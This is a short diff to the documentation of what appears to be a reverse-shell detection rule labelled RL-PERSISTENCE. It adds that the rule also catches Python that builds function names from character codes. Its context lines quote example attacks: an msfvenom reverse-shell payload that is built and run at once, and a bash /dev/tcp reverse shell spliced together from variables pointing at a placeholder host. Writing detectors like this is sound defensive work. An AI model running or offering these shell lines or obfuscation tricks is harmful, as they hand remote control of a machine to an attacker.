@@ -18,7 +18,8 @@ What it catches
     on the same command line (`msfvenom -p linux/x64/shell_reverse_tcp LHOST=... -o p && ./p`):
     running it opens the shell. A command line glued together from variables that hold its pieces
     (`a=ba;b=sh;c=/dev/tc;d=p/HOST/443;$a$b -i >& $c$d 0>&1`) is read spelled out
-    (`spliced.py`).
+    (`spliced.py`), and so is Python whose modules and functions are named by character codes a
+    helper of its own joins (`getattr(o, _s(100, 117, 112, 50))`: `run_time_names.py`).
 
 Why it is a redline (RL-PERSISTENCE)
     It gives whoever listens at the other end interactive control of the machine: the basic
